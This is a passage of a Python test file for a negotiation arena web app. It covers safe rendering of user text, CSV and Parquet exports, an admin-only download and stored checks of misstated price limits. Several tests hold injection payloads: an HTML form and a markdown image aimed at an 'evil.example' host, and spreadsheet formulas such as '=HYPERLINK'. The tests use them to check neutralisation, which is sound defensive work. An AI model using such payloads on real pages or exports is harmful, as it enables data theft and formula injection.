            assert page.locator("form").count() == 0 and page.locator("img[src*='evil']").count() == 0
            assert page.locator("a[href*='evil'], a[href^='javascript']").count() == 0
            body = page.inner_text("body")  # shown as typed, as text
            assert '<form action="http://evil.example/steal">' in body and "![x](http://evil.example/md.png)" in body
            assert "$$x$$ **bold**" in body
            assert remote == []
    finally:
        running.demo.close()


def test_exports_neutralise_formulas_in_csv_and_keep_parquet_exact(tmp_path):
    import pandas as pd

    async def scenario():
        arena = Arena(Store(f"sqlite:///{tmp_path / 'a.db'}"), Backends())
        view = await arena.start(Setup(arm="tactic:hardliner", rounds=1), player="p1")
        await arena.move(view.game_id, 1, "OFFER", "1", '=HYPERLINK("http://evil.example","x")')
        return arena.store

    store = asyncio.run(scenario())
    row = {
        k: v
        for k, v in store.games_frame().iloc[0].to_dict().items()
        if k
        in (
            "human_role",
            "arm",
            "scenario",
            "seed",
            "condition",
            "mode",
            "max_rounds",
            "first_actor",
            "buyer_price",
            "seller_price",
            "trial",
            "prompt_version",
            "parsing",
        )
    }
    store.create_game(id="f" * 32, player="@SUM(A1:A9)", **row)  # as a database from before the checks might hold
    store.export(tmp_path / "out")
    moves_csv, moves_parquet = (
        pd.read_csv(tmp_path / "out" / "moves.csv"),
        pd.read_parquet(tmp_path / "out" / "moves.parquet"),
    )
    human = moves_csv["actor"] == "human"
    assert moves_csv.loc[human, "message"].iloc[0] == '\'=HYPERLINK("http://evil.example","x")'
    assert moves_parquet.loc[moves_parquet["actor"] == "human", "message"].iloc[0].startswith("=HYPERLINK")
    assert list(pd.read_csv(tmp_path / "out" / "games.csv")["player"]) == ["p1", "'@SUM(A1:A9)"]
    assert list(pd.read_parquet(tmp_path / "out" / "games.parquet")["player"]) == ["p1", "@SUM(A1:A9)"]
    for column in moves_csv.columns:  # no cell anywhere would run as a formula
        assert not moves_csv[column].astype(str).str.match(r"^[=+@]").any(), column


@pytest.mark.slow
def test_an_export_reaches_only_the_admin_and_leaves_nothing_on_the_server(tmp_path, monkeypatch):
    """The admin's export arrives inside the answer to their own request and is saved by their browser: no address
    serves it, no file of it stays on disk, and what a crashed export left is swept at start-up."""
    import tempfile
    import zipfile

    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "tmp"))
    (tmp_path / "tmp").mkdir()
    left = tmp_path / "tmp" / "bargain-export-old"
    left.mkdir()
    (left / "moves.csv").write_text("what an older version kept")
    os.utime(left, (time.time() - 3600, time.time() - 3600))
    running = launch(tmp_path / "arena.db")
    try:
        assert not left.exists()  # swept when the app started
        client = Client(running.url, verbose=False)
        play_out(client, start(client, opponent="tactic:hardliner", rounds=1))
        with browser_page(running.url) as page:
            page.get_by_role("tab", name="Results").click()
            page.get_by_text("Export all games and moves (admin)").click()
            admin(page, "Export CSV and Parquet")  # a wrong password refused in words first
            page.wait_for_selector("text=Download bargain-games.zip", timeout=20000)
            with page.expect_download() as download:
                page.get_by_text("Download bargain-games.zip").click()
            saved = tmp_path / "saved.zip"
            download.value.save_as(saved)
            html = page.content()
        with zipfile.ZipFile(saved) as archive:
            assert sorted(archive.namelist()) == [
                "games.csv",
                "games.parquet",
                "moves.csv",
                "moves.parquet",
                "seats.csv",
                "seats.parquet",
            ]
            assert "tactic:hardliner" in archive.read("games.csv").decode()
        assert "file=" not in html  # nothing of it at any address
        assert list((tmp_path / "tmp").glob("bargain-export-*")) == []
        assert [p for p in Path(running.demo.GRADIO_CACHE).rglob("*") if p.suffix in (".csv", ".parquet", ".zip")] == []
    finally:
        running.demo.close()


# --- results come from stored findings, cheaply ----------------------------------------------------------


def test_results_come_from_findings_stored_when_each_game_ended(tmp_path, monkeypatch):
    import bargain.analysis.claims as claims
    from bargain.arena.results import my_games, per_arm

    async def scenario():
        arena = Arena(Store(f"sqlite:///{tmp_path / 'a.db'}"), Backends())
        for role in (Role.BUYER, Role.SELLER):
            view = await arena.start(Setup(role=role, arm="tactic:hardliner", rounds=1), player="p")
            said = "My budget is 0.01, that is my final offer." if role is Role.BUYER else "I can't go below 9999."
            await arena.move(view.game_id, 1, "OFFER", "1", said)
        await arena.start(Setup(arm="tactic:linear"), player="p")  # an active game: not in the results
        return arena

    arena = asyncio.run(scenario())
    rows = arena.store.games_frame()
    finished = rows[rows["status"] == "finished"]
    assert all(isinstance(c, list) for c in finished["claims"]) and set(finished["agent_misstated"]) == {False}
    assert any(
        f["role"] == "buyer" and f["kind"] == "own_limit" and f["misrepresentation"]
        for c in finished["claims"]
        for f in c
    )

    def never(*args, **kwargs):
        raise AssertionError("the claim checker ran on a refresh")

    monkeypatch.setattr(claims, "check_turns", never)
    table = per_arm(arena)
    assert list(table["games"]) == [2] and table["agent_misrepresentation_rate"].iloc[0] == 0.0
    assert len(my_games(arena, "p")) == 3
    view = asyncio.run(_view(arena, finished["id"].iloc[0]))
    assert view.debrief["claims"] and {c["speaker"] for c in view.debrief["claims"]} <= {"you", "agent"}


async def _view(arena, game_id):
    return await Arena(arena.store, Backends()).view(game_id)


def test_an_old_database_gets_its_findings_from_rescore(tmp_path):
    """A database of hand version 1 had no findings; its adoption makes none (they would depend on the checker of
    the day), `rescore` does, recording the checker's version."""
    from databases import back_to_hand_version

    from bargain.analysis.claims import CHECKER_VERSION

    url = f"sqlite:///{tmp_path / 'a.db'}"

    async def scenario():
        arena = Arena(Store(url), Backends())
        view = await arena.start(Setup(role=Role.SELLER, arm="tactic:hardliner", rounds=1))
        await arena.move(view.game_id, 1, "OFFER", "99", "I can't go below 50, final offer.")
        arena.store.engine.dispose()
        return view.game_id

    game_id = asyncio.run(scenario())
    back_to_hand_version(url, 1)
    with sqlite3.connect(tmp_path / "a.db") as db:
        db.execute("UPDATE games SET rounds = 4")  # version 1 stored the paper's metric
    upgraded = Store(url)
    row = upgraded.game(game_id)
    assert row["claims"] is None and row["agent_misstated"] is None
    assert (row["rounds"], row["paper_rounds"]) == (1, 4)  # the round it ended in, and the paper's metric
    assert upgraded.rescore() == 1
    row = upgraded.game(game_id)
    assert row["agent_misstated"] is False and row["claims_checker"] == CHECKER_VERSION
    assert [(c["role"], c["kind"], c["said"]) for c in row["claims"]][:1] == [("seller", "own_limit", 50.0)]


# --- start-up and reports fail fast with one clear line --------------------------------------------------


def test_an_unreachable_model_server_is_reported_fast(tmp_path):
    from arena_helpers import free_port

    began = time.perf_counter()
    running = launch(tmp_path / "arena.db", "--backend", "vllm", "--base-url", f"http://127.0.0.1:{free_port()}/v1")
    try:
        assert time.perf_counter() - began < 20
        client = Client(running.url, verbose=False)
        began = time.perf_counter()
        with pytest.raises(Exception, match="(?i)cannot play right now"):
            start(client, opponent="arm:base")
        assert time.perf_counter() - began < 8
        assert start(client)["status"] == "active"  # the tactics still play
    finally:
        running.demo.close()


def test_idle_sweeps_and_reads_survive_a_failing_store(tmp_path, monkeypatch):
    async def scenario():
        arena = Arena(Store(f"sqlite:///{tmp_path / 'a.db'}"), Backends(), idle_timeout=timedelta(0))
        view = await arena.start(Setup())

        def down(*args, **kwargs):
            raise StoreError("cannot read the database at sqlite:///x: disk I/O error")

        monkeypatch.setattr(arena.store, "abandon_idle", down)
        monkeypatch.setattr(arena.store, "take_over", down)
        await arena.sweep()  # logged, not raised
        arena.live.clear()
        with pytest.raises(ArenaError, match="cannot read games right now"):
            await arena.view(view.game_id)

    asyncio.run(scenario())


def test_no_page_takes_an_upload_and_free_play_links_its_api(shared):
    """No page takes a file, so the server takes none (a 20 MB upload is refused at once); free play documents its
    API for programs and its footer links to it."""
    import httpx

    answer = httpx.post(f"{shared.url}gradio_api/upload", files={"files": ("big.bin", b"0" * 20_000_000)}, timeout=60)
    assert answer.status_code == 413
    assert httpx.get(f"{shared.url}config", timeout=30).json()["footer_links"] == ["api"]
    assert {"/start_game", "/play_move", "/get_game"} <= set(
        shared.client.view_api(print_info=False, return_format="dict")["named_endpoints"]
    )
